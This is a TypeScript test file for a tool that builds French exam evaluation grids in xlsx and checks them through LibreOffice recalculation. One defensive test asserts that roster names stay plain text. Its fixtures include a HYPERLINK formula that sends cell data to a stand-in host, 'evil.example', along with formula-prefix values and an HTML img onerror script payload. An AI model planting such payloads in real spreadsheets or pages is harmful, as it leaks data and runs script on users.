import { promises as fs } from 'fs';
import { gridMap } from '../../core/grid/map';
import { E4 } from '../../core/referentiel';
import type { FormId } from '../../core/referentiel/types';
import { parseA1 } from '../../core/spec/a1';
import type { CellValue } from '../../core/spec/types';
import { generateGrids } from '../../core/workflows/generate';
import { openInput } from '../../xlsx/files';
import { XlsxHost } from '../../xlsx/host';
import { teacherInputs } from '../helpers/fill';
import { NOTHING_TYPED, type FilledTabInit } from '../helpers/filled-tab';
import { rosterFixturePath } from '../helpers/fixtures';
import {
  convertToCsv,
  convertToPdf,
  describeWithLibreOffice,
  pdfPages,
  pdfText,
  tempXlsx,
} from '../helpers/libreoffice';

/**
 * The generated tabs opened by real LibreOffice, which recalculates every formula: the live « Saisie »
 * status must count what is missing as a teacher sees it, in a tab fresh from generation and after the
 * inputs are filled through the xlsx host.
 */

const clock = (): Date => new Date('2026-03-01T10:00:00Z');

function roster(names: string[]): CellValue[][] {
  return [['N° candidat', 'NOM', 'Prénom'], ...names.map((n, i) => [`0260000${i + 1}`, n, 'Test'])];
}

/** A class of one tab per case; returns the workbook path and the tab names in roster order. */
async function classWith(
  form: FormId,
  cases: Array<FilledTabInit | null>,
): Promise<{ path: string; tabs: string[] }> {
  const host = XlsxHost.fromRows([{ name: 'Classe', rows: roster(cases.map((_, i) => `CAS${i + 1}`)) }]);
  const result = await generateGrids(host, { form, session: 2026, roster: {}, clock });
  const updates = cases.flatMap((init, i) =>
    init === null
      ? []
      : [{ sheet: result.created[i], cells: teacherInputs(form, { session: 2026, ...init }) }],
  );
  await host.apply({ templates: {}, add: [], replace: [], updates });
  return { path: tempXlsx(await host.toBytes(), `${form}.xlsx`), tabs: result.created };
}

/** « Saisie » column of « Suivi E4 » (the first sheet), by tab name. */
async function recapStatuses(path: string): Promise<Record<string, string>> {
  const rows = await convertToCsv(path, 1);
  const header = rows.findIndex((r) => r.includes('Onglet'));
  const tabCol = rows[header].indexOf('Onglet');
  const statusCol = rows[header].indexOf('Saisie');
  return Object.fromEntries(rows.slice(header + 1).map((r) => [r[tabCol], r[statusCol]]));
}

function cellOf(rows: string[][], ref: string): string {
  const { r, c } = parseA1(ref);
  return rows[r - 1]?.[c - 1] ?? '';
}

describeWithLibreOffice('generated tabs recalculated by LibreOffice', () => {
  it('CCF: a fresh tab misses 16 items; complete grids (NV or EC), an ABS and an NV with a motif read « Saisie complète »', async () => {
    const { path, tabs } = await classWith('ccf', [
      null,
      {},
      { activity: 'evenement' },
      { ...NOTHING_TYPED, status: 'Absent (ABS)' },
      { ...NOTHING_TYPED, status: 'Non valide (NV)' },
      { ...NOTHING_TYPED, status: 'Non valide (NV)', nvMotifs: [2] },
      { note: null, levels: { 'cibler.3': null } },
    ]);
    const statuses = await recapStatuses(path);
    // 4 + 2 common levels, the activity (its bloc's levels count once it is chosen), the note, the dates of
    // situations A and B, fiche N° and titre, 2 appréciations, 1 member per situation: as « Contrôle » counts.
    expect(statuses[tabs[0]]).toBe('Saisie incomplète : 16 élément(s) manquant(s)');
    expect(statuses[tabs[1]]).toBe('Saisie complète');
    expect(statuses[tabs[2]]).toBe('Saisie complète');
    expect(statuses[tabs[3]]).toBe('Saisie complète');
    expect(statuses[tabs[4]]).toBe('Saisie incomplète : 1 élément(s) manquant(s)');
    expect(statuses[tabs[5]]).toBe('Saisie complète');
    expect(statuses[tabs[6]]).toBe('Saisie incomplète : 2 élément(s) manquant(s)');
  });

  it('CCF: a filled tab shows its X marks, the advisory band and its status in the tab itself', async () => {
    const { path } = await classWith('ccf', [{ note: 15 }]);
    const rows = await convertToCsv(path, 3);
    const map = gridMap(E4, 'ccf');
    expect(cellOf(rows, map.statusText)).toBe('Saisie complète');
    expect(cellOf(rows, map.missingCount)).toBe('0');
    expect(cellOf(rows, map.advisory)).toContain('14 et plus');
    const level = parseA1(map.levels['cibler.1']);
    expect(rows[level.r - 1].slice(level.c)).toEqual(expect.arrayContaining(['X']));
  });

  it('ponctuelle: a fresh tab misses 17 items, a complete one reads « Saisie complète »', async () => {
    const { path, tabs } = await classWith('ponctuel', [null, {}, { members: ['Mme MARTIN Claire'] }]);
    const statuses = await recapStatuses(path);
    // 6 common levels, activity, note, date, fiche N°, titre, 3 appréciations, 2 members, N° commission.
    expect(statuses[tabs[0]]).toBe('Saisie incomplète : 17 élément(s) manquant(s)');
    expect(statuses[tabs[1]]).toBe('Saisie complète');
    expect(statuses[tabs[2]]).toBe('Saisie incomplète : 1 élément(s) manquant(s)');
  });

  it('names from the formula-injection roster stay text in the tabs', async () => {
    const opened = await openInput(rosterFixturePath('bad/injection-formules.csv'));
    const result = await generateGrids(opened.host, { form: 'ccf', session: 2026, roster: {}, clock });
    expect(result.created).toHaveLength(5);
    const path = tempXlsx(await opened.host.toBytes(), 'injection.xlsx');
    const map = gridMap(E4, 'ccf');
    const firstTab = await convertToCsv(path, 3);
    expect(cellOf(firstTab, map.identity.nom)).toBe('=HYPERLINK("http://evil.example/?"&A1;"clic")');
    const list = await convertToCsv(path, 2);
    expect(list.map((r) => r[1])).toEqual([
      'Nom',
      '=HYPERLINK("http://evil.example/?"&A1;"clic")',
      '+33612345678',
      '@SUM(1+1)',
      '-2+3',
      '<img src=x onerror=alert(1)>',
    ]);
  });

  it('one tab prints on 2 A4 pages: the grid, then the fiche', async () => {
    const host = XlsxHost.fromRows([
      {
        name: 'Classe',
        rows: [
          ['NOM', 'Prénom'],
          ['SEUL', 'Candidat'],
        ],
      },
    ]);
    const result = await generateGrids(host, { form: 'ccf', session: 2026, roster: {}, clock });
    expect(result.created).toEqual(['SEUL Candidat']);
    host.printOnly([result.created[0]]);
    const path = tempXlsx(await host.toBytes(), 'un-onglet.xlsx');
    const pdf = await convertToPdf(path);
    expect(pdfPages(pdf)).toBe(2);
    expect(pdfText(pdf, 1)).toContain('Grille d');
    expect(pdfText(pdf, 2)).toContain("Fiche d'évaluation");
    await fs.rm(pdf);
  });
});
